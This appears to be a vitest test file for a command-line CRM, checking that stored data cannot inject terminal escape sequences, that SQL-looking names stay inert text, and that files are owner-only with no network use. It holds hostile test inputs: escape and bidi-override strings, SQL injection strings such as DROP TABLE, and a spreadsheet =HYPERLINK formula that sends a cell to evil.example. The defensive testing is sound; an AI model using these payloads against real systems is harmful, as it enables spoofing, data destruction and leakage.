// Terminal safety (no escape sequence from stored data reaches a terminal), SQL safety (names
// that look like SQL are stored as text) and privacy (owner-only files, no network).
import { openBook } from '../helpers/book.js';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { describeSqlite, itSqlite, onPostgres } from '../helpers/engines.js';
import { spawnSync } from 'node:child_process';
import { BIN, ROOT, runCrm, sandbox, type Sandbox } from '../helpers/cli.js';

// What must never reach a terminal: C0 controls but tab/newline, DEL, C1 controls (incl. the
// 8-bit CSI), bidi overrides and isolates, line/paragraph separators.
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const noUnsafe = (s: string) => s.replace(/\r\n/g, '\n');

const HOSTILE = {
  clear: 'Clear\u001b[2J\u001b[H Co',
  colour: 'Red \u001b[31mAlert\u001b[0m Ltd',
  link: 'Link \u001b]8;;https://evil.example/\u0007Click\u001b]8;;\u0007 GmbH',
  title: 'Title \u001b]0;pwned\u0007 Inc',
  csi8: 'Eight\u009b31mBit Corp',
  bidi: 'Bidi \u202Egnp.exe\u202C Trading',
  isolate: 'Iso \u2067abc\u2069 Ltd',
  cr: 'Fake\rReal Company',
  bell: 'Bell\u0007\u0008\u007f Works',
};

describe('reliability: terminal safety', () => {
  let sb: Sandbox;
  beforeEach(() => {
    sb = sandbox('crm-safe-');
  });
  afterEach(() => sb.cleanup());

  it('strips control characters, escape sequences and bidi overrides from every output format', () => {
    for (const [k, name] of Object.entries(HOSTILE)) {
      const r = sb.crm(['account', 'add', '--name', name, '--city', `城市 ${k}`, '--notes', `note ${name}`]);
      expect(r.code, `${k}: ${r.stderr}`).toBe(0);
      expect(noUnsafe(r.stdout + r.stderr), k).not.toMatch(UNSAFE);
    }
    sb.crm(['contact', 'add', 'Bidi', '--name', 'Pers\u202Eon\u001b[5m', '--title', 'Boss\u009b2J', '--email', 'x@example.com']);
    const outputs: [string, string[]][] = [
      ['list table', ['account', 'list']],
      ['list csv', ['account', 'list', '--format', 'csv']],
      ['list markdown', ['account', 'list', '--format', 'markdown']],
      ['list json', ['account', 'list', '--json']],
      ['contact list', ['contact', 'list']],
      ['contact json', ['contact', 'list', '--json']],
      ['find', ['find', 'Trading']],
      ['show table', ['show', 'Bidi']],
      ['show markdown', ['show', 'Bidi', '--format', 'markdown']],
      ['show csv', ['show', 'Bidi', '--format', 'csv']],
      ['show json', ['show', 'Bidi', '--json']],
      ['account show', ['account', 'show', 'Bidi']],
    ];
    for (const [what, args] of outputs) {
      const r = sb.crm(args);
      expect(r.code, `${what}: ${r.stderr}`).toBe(0);
      expect(noUnsafe(r.stdout + r.stderr), what).not.toMatch(UNSAFE);
    }
    // the visible text survives; only the controls go
    const table = sb.crm(['account', 'list']).stdout;
    expect(table).toContain('Red Alert Ltd');
    expect(table).toContain('Link Click GmbH');
    // JSON keeps the stored value exactly (escaped, so still safe on a terminal)
    const db = openBook(sb.db, { readonly: true });
    const stored = (db.prepare(`select name from accounts where name like 'Bidi%'`).get() as { name: string }).name;
    db.close();
    const json = sb.crm(['account', 'list', '--json']).stdout;
    expect(json).not.toMatch(UNSAFE);
    expect(JSON.parse(json).map((a: any) => a.name)).toContain(stored);
  });

  it('strips them from error messages that echo user input, and keeps errors on one line', () => {
    sb.crm(['account', 'add', '--name', 'Twin\u001b[31m One\nFake line']);
    sb.crm(['account', 'add', '--name', 'Twin\u202E Two']);
    const cases: string[][] = [
      ['show', 'Nobody\u001b[2J\u001b]0;pwned\u0007'],
      ['show', 'Twin'], // ambiguous: lists stored names
      ['\u001b[31mfrobnicate'],
      ['account', 'list', '--limit', '\u001b[2Jx'],
      ['account', 'add', '--name', 'X', '--founded', '\u009b2J'],
      ['--db', join(sb.dir, 'missing-dir\u001b[2J', 'x', 'crm.db'), 'account', 'list', '--as-of', '\u202E2026'],
    ];
    for (const args of cases) {
      const r = sb.crm(args);
      expect(r.code, args.join(' ')).not.toBe(0);
      expect(r.stderr, args.join(' ')).not.toMatch(UNSAFE);
      const msgLines = r.stderr.split('\n').filter((l) => l.startsWith('crm: '));
      expect(msgLines, args.join(' ')).toHaveLength(1);
    }
    const dbg = sb.crm(['show', 'Nobody\u001b[2J', '--debug']);
    expect(dbg.stderr).not.toMatch(UNSAFE);
  });
});

describe('reliability: SQL safety', () => {
  let sb: Sandbox;
  beforeEach(() => {
    sb = sandbox('crm-sql-');
  });
  afterEach(() => sb.cleanup());

  const NAMES = [
    "Robert'); DROP TABLE accounts;--",
    'x" OR "1"="1',
    "O'Brien & Sons",
    '100% Pure_Water \\ Co',
    '"; DELETE FROM contacts; --',
  ];

  it('stores SQL-looking names as text and finds them', () => {
    for (const n of NAMES) expect(sb.crm(['account', 'add', '--name', n, '--notes', `${n} notes`]).code).toBe(0);
    expect(sb.crm(['contact', 'add', "O'Brien", '--name', "Bobby'; DROP TABLE contacts;--", '--email', 'bobby@example.com']).code).toBe(0);
    expect(sb.json(['account', 'list']).map((a: any) => a.name).sort()).toEqual([...NAMES].sort());
    expect(sb.json(['contact', 'list'])[0].name).toBe("Bobby'; DROP TABLE contacts;--");
    expect(sb.json(['find', "Robert'); DROP"]).map((h: any) => h.name)).toEqual(["Robert'); DROP TABLE accounts;--"]);
    expect(sb.json(['find', 'DROP TABLE contacts']).map((h: any) => h.name)).toEqual(["O'Brien & Sons"]);
    // LIKE wildcards and FTS syntax are literal text
    expect(sb.json(['find', '%']).map((h: any) => h.name)).toEqual(['100% Pure_Water \\ Co']);
    expect(sb.json(['find', '_']).map((h: any) => h.name)).toEqual(['100% Pure_Water \\ Co']);
    for (const q of ['"', 'NEAR(', '*', 'a OR b', 'accounts)', "'", '^x', '-', ':']) {
      const r = sb.crm(['find', q, '--json']);
      expect(r.code, `find ${q}: ${r.stderr}`).toBe(0);
    }
    expect(sb.json(['show', "Robert'); DROP TABLE accounts;--"]).name).toBe("Robert'); DROP TABLE accounts;--");
    expect(sb.crm(['account', 'edit', 'x" OR "1"="1', '--city', "'; UPDATE accounts SET name='pwned'; --"]).code).toBe(0);
    expect(sb.json(['account', 'list']).map((a: any) => a.name)).not.toContain('pwned');
    const info = sb.json(['db', 'info']);
    expect(info.counts.accounts).toBe(NAMES.length);
    expect(info.counts.contacts).toBe(1);
    expect(sb.crm(['doctor']).code).toBe(0);
  });
});

describe('reliability: privacy', () => {
  let sb: Sandbox;
  beforeEach(() => {
    sb = sandbox('crm-priv-');
  });
  afterEach(() => sb.cleanup());

  itSqlite('creates the database, its WAL and shared-memory files and its folder owner-only', () => {
    const xdg = join(sb.dir, 'xdg');
    const r = runCrm(['account', 'add', '--name', 'Private Co'], { env: { CRM_DB: undefined, XDG_DATA_HOME: xdg, XDG_CONFIG_HOME: sb.dir } });
    expect(r.code, r.stderr).toBe(0);
    const db = join(xdg, 'crm', 'crm.db');
    expect(statSync(db).mode & 0o777).toBe(0o600);
    expect(statSync(join(xdg, 'crm')).mode & 0o777).toBe(0o700);
    // Keep a connection open so the -wal/-shm files stay while crm writes through them.
    const held = openBook(db);
    try {
      held.prepare('select count(*) from accounts').get();
      const w = runCrm(['--db', db, 'account', 'add', '--name', 'Second Co'], { env: { XDG_CONFIG_HOME: sb.dir } });
      expect(w.code).toBe(0);
      for (const f of [`${db}-wal`, `${db}-shm`]) {
        expect(existsSync(f), f).toBe(true);
        expect(statSync(f).mode & 0o777, f).toBe(0o600);
      }
    } finally {
      held.close();
    }
  });

  it('makes every backup owner-only', () => {
    sb.crm(['account', 'add', '--name', 'Private Co']);
    const f = join(sb.dir, 'b.db');
    writeFileSync(f, '');
    // even overwriting a file that was world-readable
    expect(sb.crm(['backup', f, '--force']).code).toBe(0);
    expect(statSync(f).mode & 0o777).toBe(0o600);
    expect(statSync(sb.crm(['backup']).stdout.trim()).mode & 0o777).toBe(0o600);
  });

  it('writes the rejects file owner-only, with formulas neutralised', () => {
    const f = join(sb.dir, 'leads.csv');
    writeFileSync(f, 'Notes,Name,Company,Email\n=HYPERLINK("https://evil.example/?"&A1),,,\nhi,Ann,Ann Co,ann@ann.example.com\n');
    const rej = join(sb.dir, 'rejects.csv');
    writeFileSync(rej, 'old');
    const r = sb.crm(['import', f, '--rejects', rej]);
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(rej).mode & 0o777).toBe(0o600);
    const text = readFileSync(rej, 'utf8');
    expect(text).toMatch(/leads\.csv,2,/);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1),,,"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('writes exports owner-only', () => {
    if (!/^\s+export\b/m.test(sb.crm(['--help']).stdout)) return; // crm export is not part of this build yet
    sb.crm(['account', 'add', '--name', 'Private Co']);
    const out = join(sb.dir, 'accounts.csv');
    const r = sb.crm(['export', 'accounts', '--format', 'csv', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(out).mode & 0o777).toBe(0o600);
  });

  it('exits quietly when the reader of its output goes away (crm ... | head)', () => {
    const f = join(sb.dir, 'many.csv');
    writeFileSync(f, 'Name,Company,Email\n' + Array.from({ length: 1500 }, (_, i) => `P ${i},Firm ${i},p${i}@f${i}.example.com`).join('\n') + '\n');
    expect(sb.crm(['import', f]).code).toBe(0);
    const err = join(sb.dir, 'err.txt');
    const q = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
    const r = spawnSync('sh', ['-c', `${q(process.execPath)} ${q(BIN)} --db ${q(sb.db)} contact list --json 2>${q(err)} | head -c 100 >/dev/null; echo "\${PIPESTATUS:-}"`], { encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(readFileSync(err, 'utf8')).toBe('');
  });

  itSqlite('has no network code but the PostgreSQL driver, which is a file of its own', () => {
    const files: string[] = [];
    const walk = (d: string) => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(join(d, e.name));
        else if (/\.c?js$/.test(e.name)) files.push(join(d, e.name));
      }
    };
    walk(join(ROOT, 'dist'));
    expect(files.length).toBeGreaterThan(0);
    const NET = /(?:from\s*|import\s*\(\s*|require\s*\(\s*)["'](?:node:)?(?:http|https|http2|net|tls|dgram|dns|undici)(?:\/[a-z]+)?["']/;
    const driver = join(ROOT, 'dist', 'pg-driver.cjs');
    // the driver is the network code; everything else only loads it when a book is on a server
    expect(NET.test(readFileSync(driver, 'utf8'))).toBe(true);
    for (const f of files) {
      if (f === driver) continue;
      const text = readFileSync(f, 'utf8');
      expect(NET.exec(text)?.[0], f).toBeUndefined();
      // (the global fetch needs no import: the run-time trap below covers it)
    }
  });

  // a book in a file: a book on a server connects to it, by design
  itSqlite('opens no connection while running (network calls trapped at run time)', () => {
    const trap = join(sb.dir, 'trap.cjs');
    const hits = join(sb.dir, 'net-hits');
    writeFileSync(
      trap,
      `const fs = require('fs'); const hit = (w) => { fs.appendFileSync(${JSON.stringify(hits)}, w + '\\n'); throw new Error('network used: ' + w); };
       const net = require('net'); net.Socket.prototype.connect = function () { hit('net.connect'); };
       for (const m of ['http', 'https']) { const mod = require(m); mod.request = () => hit(m + '.request'); mod.get = () => hit(m + '.get'); }
       const dns = require('dns'); dns.lookup = () => hit('dns.lookup');
       globalThis.fetch = () => hit('fetch');`,
    );
    const env = { NODE_OPTIONS: `--require ${trap}` };
    mkdirSync(join(sb.dir, 'x'));
    for (const args of [
      ['account', 'add', '--name', 'Net Co', '--website', 'https://net.example.com', '--email', 'a@net.example.com'],
      ['contact', 'add', 'Net Co', '--name', 'Ann', '--email', 'ann@gmail.com', '--phone', '+86 138 1234 5678'],
      ['find', 'Net'],
      ['show', 'Net Co'],
      ['backup', join(sb.dir, 'x')],
      ['doctor'],
    ]) {
      const r = sb.crm(args, { env });
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
    }
    expect(existsSync(hits) ? readFileSync(hits, 'utf8') : '').toBe('');
  });
});
